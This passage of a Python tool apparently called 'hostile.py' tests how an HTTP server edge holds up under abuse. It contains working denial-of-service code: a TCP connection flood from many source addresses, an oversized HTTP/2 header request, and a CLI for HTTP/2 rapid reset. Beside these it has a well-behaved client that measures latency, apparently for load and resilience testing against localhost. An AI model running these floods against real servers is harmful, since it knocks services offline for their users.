def raw_http1(host, port, data, timeout=10, quiet=None):
    """Sends raw bytes (from a thread, so a server that answers early and closes cannot
    block us) and returns everything received until the close or `timeout`. With `quiet`,
    it also returns once something was received and then nothing more for `quiet` s."""
    sock = socket.create_connection((host, port), timeout=timeout)
    errors = {}

    def sender():
        try:
            sock.sendall(data)
        except OSError as e:
            errors["send"] = e

    t = threading.Thread(target=sender, daemon=True)
    received = b""
    try:
        t.start()
        deadline = time.monotonic() + timeout
        while True:
            remaining = deadline - time.monotonic()
            if remaining <= 0:
                break
            wait = remaining if (quiet is None or not received) else min(remaining, quiet)
            sock.settimeout(wait)
            try:
                piece = sock.recv(65536)
            except socket.timeout:
                break
            except OSError:
                break
            if not piece:
                break
            received += piece
    finally:
        try:
            sock.shutdown(socket.SHUT_RDWR)  # unblocks the sender
        except OSError:
            pass
        sock.close()
        t.join(timeout=timeout)
    return received


def split_responses(data):
    """Back-to-back HTTP/1.1 responses in `data` -> [(status, {lower-case name: value},
    body bytes)], framed by Content-Length or chunked (1xx, 204 and 304 have no body; a
    response with neither runs to the end). Duplicate headers are joined with ", ". A
    truncated last response is returned with the body bytes present."""
    out = []
    pos = 0
    n = len(data)
    while pos < n:
        end = data.find(b"\r\n\r\n", pos)
        if end < 0:
            break
        lines = data[pos:end].split(b"\r\n")
        pos = end + 4
        parts = lines[0].split(b" ", 2)
        if len(parts) < 2 or not parts[0].startswith(b"HTTP/"):
            break
        try:
            status = int(parts[1])
        except ValueError:
            break
        headers = {}
        for line in lines[1:]:
            k, sep, v = line.partition(b":")
            if not sep:
                continue
            key = k.strip().lower().decode("latin-1")
            val = v.strip().decode("latin-1")
            headers[key] = headers[key] + ", " + val if key in headers else val
        te = headers.get("transfer-encoding", "").lower()
        if 100 <= status < 200 or status in (204, 304):
            body = b""
        elif "chunked" in te:
            body = b""
            while pos < n:
                eol = data.find(b"\r\n", pos)
                if eol < 0:
                    pos = n
                    break
                try:
                    size = int(data[pos:eol].split(b";", 1)[0].strip() or b"x", 16)
                except ValueError:
                    pos = n
                    break
                pos = eol + 2
                if size == 0:
                    while pos < n:  # trailers, up to the empty line
                        eol = data.find(b"\r\n", pos)
                        if eol < 0:
                            pos = n
                            break
                        line, pos = data[pos:eol], eol + 2
                        if not line:
                            break
                    break
                body += data[pos:pos + size]
                pos += size + 2
        elif "content-length" in headers:
            try:
                length = int(headers["content-length"].split(",")[0].strip())
            except ValueError:
                length = n - pos
            body = data[pos:pos + length]
            pos += length
        else:
            body = data[pos:]
            pos = n
        out.append((status, headers, body))
    return out


# ---- oversized HTTP/2 head --------------------------------------------------------------

def oversized_h2_head(host, port, authority, header_bytes=64 * 1024, timeout=10,
                      path="/hello"):
    """One HTTP/2 request whose header list is at least `header_bytes` long (RFC 9113
    counting: name + value + 32 per field), made of 4000-byte values; h2 splits the block
    into HEADERS + CONTINUATION frames at the server's SETTINGS_MAX_FRAME_SIZE. h2 4.1.0
    does not enforce the server's SETTINGS_MAX_HEADER_LIST_SIZE on what it sends, so the
    server's limit is not in the way. Returns {"status": int|None, "reset": code|None,
    "goaway": code|None, "closed": bool, "header_list_bytes": n}."""
    c = H2Client(host, port, authority, timeout=timeout, max_header_list_size=1 << 24)
    try:
        headers = []
        total = 0
        i = 0
        while total < header_bytes:
            name = "x-filler-%d" % i
            headers.append((name, "a" * 4000))
            total += len(name) + 4000 + 32
            i += 1
        sid = c.request(path, headers=headers)
        r = c.responses[sid]
        c.pump(timeout, until=lambda: c.finished(sid) or r["status"] is not None)
        return {"status": r["status"], "reset": r["reset"],
                "goaway": c.goaway["error_code"] if c.goaway else None, "closed": c.closed,
                "header_list_bytes": total + sum(len(k) + len(v) + 32 for k, v in (
                    (":method", "GET"), (":scheme", "https"), (":authority", authority),
                    (":path", path)))}
    finally:
        c.close()


# ---- connection floods ------------------------------------------------------------------

def ensure_fds(need):
    """Raises RLIMIT_NOFILE's soft limit to the hard one; fails clearly (RuntimeError) when
    `need` more descriptors would still not fit."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft != hard:
        try:
            resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
        except (ValueError, OSError):
            pass
        soft = resource.getrlimit(resource.RLIMIT_NOFILE)[0]
    try:
        in_use = len(os.listdir("/proc/self/fd"))
    except OSError:
        in_use = 64
    if soft != resource.RLIM_INFINITY and in_use + need + 16 > soft:
        raise RuntimeError("a flood of %d connections does not fit: RLIMIT_NOFILE is %d "
                           "(hard %d) with %d descriptors in use" % (need, soft, hard, in_use))
    return soft


class Flood:
    """Idle TCP connections from several source addresses, held by a background thread (see
    start_flood). Nothing is ever sent on them."""

    def __init__(self, host, port, source_ips, per_ip, hold_seconds, timeout=10):
        self.host, self.port = host, port
        self.source_ips, self.per_ip = list(source_ips), per_ip
        self.hold_seconds, self.timeout = hold_seconds, timeout
        ensure_fds(len(self.source_ips) * per_ip)
        self._lock = threading.Lock()
        self._stats = {"opened": 0, "closed_by_server": 0, "failed": 0, "open": 0,
                       "attempted": 0, "failures": {}, "error": None, "done": False}
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()

    def _bump(self, key, n=1):
        with self._lock:
            self._stats[key] += n

    def _note_failure(self, err):
        name = errno.errorcode.get(err, str(err)) if err else "timeout"
        with self._lock:
            self._stats["failed"] += 1
            self._stats["failures"][name] = self._stats["failures"].get(name, 0) + 1

    def _run(self):
        socks = {}   # fd -> [socket, "connecting"|"held"]
        poller = select.poll()
        start = time.monotonic()
        hold_end = start + self.hold_seconds
        connect_end = start + self.timeout
        HUP = POLLRDHUP | select.POLLHUP | select.POLLERR

        def drop(fd):
            try:
                poller.unregister(fd)
            except (KeyError, ValueError):
                pass
            sock = socks.pop(fd)[0]
            sock.close()

        def service(wait_ms):
            for fd, ev in poller.poll(wait_ms):
                entry = socks.get(fd)
                if entry is None:
                    continue
                sock, state = entry
                if state == "connecting":
                    err = sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
                    if err in (errno.ECONNRESET, errno.ECONNABORTED, errno.EPIPE):
                        # The handshake completed and the server reset the connection at
                        # once (an accept and a close with SO_LINGER 0) before we looked.
                        self._bump("opened")
                        self._bump("closed_by_server")
                        drop(fd)
                        continue
                    if err != 0 or (ev & select.POLLERR):
                        self._note_failure(err)
                        drop(fd)
                        continue
                    if not ev & select.POLLOUT:
                        continue
                    entry[1] = "held"
                    self._bump("opened")
                    self._bump("open")
                    poller.modify(fd, select.POLLIN | HUP)
                if ev & HUP:
                    self._bump("closed_by_server")
                    self._bump("open", -1)
                    drop(fd)
                elif ev & select.POLLIN:
                    # The server said something (an error page?) but has not closed yet:
                    # from now on only its close matters.
                    try:
                        if sock.recv(1, socket.MSG_PEEK) == b"":
                            self._bump("closed_by_server")
                            self._bump("open", -1)
                            drop(fd)
                            continue
                    except BlockingIOError:
                        pass
                    except OSError:
                        self._bump("closed_by_server")
                        self._bump("open", -1)
                        drop(fd)
                        continue
                    poller.modify(fd, HUP)

        try:
            for ip in self.source_ips:
                for _ in range(self.per_ip):
                    if self._stop.is_set() or time.monotonic() >= min(hold_end, connect_end):
                        break
                    self._bump("attempted")
                    s = socket.socket(socket.AF_INET6 if ":" in ip else socket.AF_INET,
                                      socket.SOCK_STREAM)
                    try:
                        s.setblocking(False)
                        s.bind((ip, 0))
                        rc = s.connect_ex((self.host, self.port))
                    except OSError as e:
                        s.close()
                        self._note_failure(e.errno)
                        continue
                    if rc not in (0, errno.EINPROGRESS):
                        s.close()
                        self._note_failure(rc)
                        continue
                    socks[s.fileno()] = [s, "connecting"]
                    poller.register(s, select.POLLOUT | HUP)
                    if len(socks) % 64 == 0:
                        service(0)
            while not self._stop.is_set():
                now = time.monotonic()
                if now >= hold_end:
                    break
                if now >= connect_end:
                    for fd in [fd for fd, e in socks.items() if e[1] == "connecting"]:
                        self._note_failure(0)
                        drop(fd)
                service(int(max(1, min(200, (hold_end - now) * 1000))))
        except Exception as e:
            with self._lock:
                self._stats["error"] = "%s: %s" % (type(e).__name__, e)
        finally:
            for fd in list(socks):
                if socks[fd][1] == "held":
                    self._bump("open", -1)
                drop(fd)
            with self._lock:
                self._stats["done"] = True

    def stats(self):
        """{"opened": connects that succeeded, "closed_by_server": held connections the
        server closed (EOF or RST seen, also one reset before its connect was seen to finish),
        "open": held now, "failed": connects that failed or did not finish within the
        timeout, "failures": {errno name or "timeout": n}, "attempted", "error": an
        unexpected exception in the thread, "done": the flood has ended}."""
        with self._lock:
            return dict(self._stats)

    def wait(self, timeout=None):
        self._thread.join(timeout)
        return self.stats()

    def stop(self):
        """Closes every connection at once; returns the final stats."""
        self._stop.set()
        self._thread.join(timeout=30)
        return self.stats()


def start_flood(host, port, source_ips, per_ip, hold_seconds, timeout=10):
    """Starts connection_flood in a background thread; returns its handle (a Flood) with
    .stop() and .stats(). `timeout` bounds the connects; `hold_seconds` the whole flood."""
    return Flood(host, port, source_ips, per_ip, hold_seconds, timeout=timeout)


def connection_flood(host, port, source_ips, per_ip, hold_seconds, timeout=10):
    """From each address of `source_ips` (bound before connect; 127.0.0.0/8 all works on
    loopback), `per_ip` non-blocking TCP connects to host:port, held open sending nothing
    for `hold_seconds`, then closed. RLIMIT_NOFILE is raised to its hard limit first
    (RuntimeError if still too small). Blocks; returns Flood.stats()."""
    f = start_flood(host, port, source_ips, per_ip, hold_seconds, timeout=timeout)
    return f.wait(hold_seconds + timeout + 30)


# ---- CLI --------------------------------------------------------------------------------

def _percentile(values, p):
    if not values:
        return None
    values = sorted(values)
    return values[min(len(values) - 1, int(len(values) * p))]


def good_client(host, port, authority, path="/hello", seconds=10, concurrency=4, http2=False,
                tls=False, timeout=5):
    """A well-behaved client: `concurrency` workers, each doing one request at a time on a
    keep-alive connection (HTTP/1.1 over http.client, or HTTP/2 over TLS with http2=True; with
    tls=True HTTP/1.1 goes over TLS), reconnecting after an error. Returns {"ok": 200
    answers, "errors": n, "rps": ok per second, "statuses": {...}, "p50_ms", "p99_ms",
    "max_ms"}."""
    deadline = time.monotonic() + seconds
    lock = threading.Lock()
    stats = {"ok": 0, "errors": 0, "statuses": {}}
    latencies = []

    def record(status, took):
        with lock:
            if status == 200:
                stats["ok"] += 1
                if len(latencies) < 1_000_000:
                    latencies.append(took)
            else:
                stats["errors"] += 1
            key = str(status)
            stats["statuses"][key] = stats["statuses"].get(key, 0) + 1

    def worker_h1():
        conn = None
        try:
            while time.monotonic() < deadline:
                t = timeout  # a request started before the deadline may finish after it
                if conn is None:
                    if tls:
                        ctx = _tls_context(["http/1.1"])
                        conn = http.client.HTTPSConnection(host, port, timeout=t, context=ctx)
                    else:
                        conn = http.client.HTTPConnection(host, port, timeout=t)
                started = time.monotonic()
                try:
                    conn.timeout = t
                    if conn.sock is not None:
                        conn.sock.settimeout(t)
                    conn.request("GET", path, headers={"Host": authority})
                    resp = conn.getresponse()
                    resp.read()
                    record(resp.status, time.monotonic() - started)
                    if resp.will_close:
                        conn.close()
                        conn = None
                except Exception:  # noqa: BLE001 - any failure is one error, then reconnect
                    record("error", 0)
                    conn.close()
                    conn = None
                    time.sleep(0.01)
        finally:
            if conn is not None:
                conn.close()

    def worker_h2():
        c = None
        try:
            while time.monotonic() < deadline:
                t = timeout  # a request started before the deadline may finish after it
                try:
                    if c is None or c.closed or c.goaway is not None or c.protocol_error:
                        if c is not None:
                            c.close()
                        c = None
                        c = H2Client(host, port, authority, timeout=t)
                    started = time.monotonic()
                    sid = c.request(path)
                    r = c.wait(sid, t)
                    c.responses.pop(sid, None)
                    status = r["status"] if r["ended"] else "error"
                    record(status, time.monotonic() - started)
                except Exception:  # noqa: BLE001 - any failure is one error, then reconnect
                    record("error", 0)
                    if c is not None:
                        c.close()
                    c = None
                    time.sleep(0.01)
        finally:
            if c is not None:
                c.close()

    started = time.monotonic()
    threads = [threading.Thread(target=worker_h2 if http2 else worker_h1, daemon=True)
               for _ in range(concurrency)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(timeout=seconds + timeout + 10)
    elapsed = time.monotonic() - started
    ms = lambda v: None if v is None else round(v * 1000, 2)  # noqa: E731
    return {"ok": stats["ok"], "errors": stats["errors"],
            "rps": round(stats["ok"] / elapsed, 1) if elapsed > 0 else 0.0,
            "statuses": stats["statuses"], "p50_ms": ms(_percentile(latencies, 0.5)),
            "p99_ms": ms(_percentile(latencies, 0.99)),
            "max_ms": ms(max(latencies) if latencies else None), "elapsed": round(elapsed, 3)}


def main(argv=None):
    p = argparse.ArgumentParser(prog="hostile.py", description=__doc__.split("\n\n")[0])
    sub = p.add_subparsers(dest="cmd", required=True)
    rr = sub.add_parser("rapid-reset", help="HTTP/2 rapid reset (HEADERS + RST_STREAM)")
    rr.add_argument("--host", default="127.0.0.1")
    rr.add_argument("--port", type=int, required=True, help="the edge's https port")
    rr.add_argument("--authority", required=True)
    rr.add_argument("--path", default="/hello")
    rr.add_argument("--connections", type=int, default=1)
    rr.add_argument("--streams", type=int, default=1000, help="per connection")
    rr.add_argument("--seconds", type=float, default=10)
    rr.add_argument("--batch", type=int, default=100)
    rr.add_argument("--reconnect", action="store_true",
                    help="open a new connection each time the server closes one")
    g = sub.add_parser("good-client", help="well-behaved keep-alive client")
    g.add_argument("--host", default="127.0.0.1")
    g.add_argument("--port", type=int, required=True)
    g.add_argument("--authority", required=True)
    g.add_argument("--path", default="/hello")
    g.add_argument("--seconds", type=float, default=10)
    g.add_argument("--concurrency", type=int, default=4)
    g.add_argument("--h2", action="store_true", help="HTTP/2 over TLS (the https port)")
    g.add_argument("--tls", action="store_true", help="HTTP/1.1 over TLS")
    g.add_argument("--timeout", type=float, default=5)
    a = p.parse_args(argv)
    if a.cmd == "rapid-reset":
        out = rapid_reset(a.host, a.port, a.authority, path=a.path, connections=a.connections,
                          streams=a.streams, seconds=a.seconds, batch=a.batch,
                          linger=0.1 if a.reconnect else 1.0, reconnect=a.reconnect)
        out.pop("per_connection", None)
    else:
        out = good_client(a.host, a.port, a.authority, path=a.path, seconds=a.seconds,
                          concurrency=a.concurrency, http2=a.h2, tls=a.tls, timeout=a.timeout)
    sys.stdout.write(json.dumps(out, sort_keys=True) + "\n")
    sys.stdout.flush()
    return 0


if __name__ == "__main__":
    sys.exit(main())
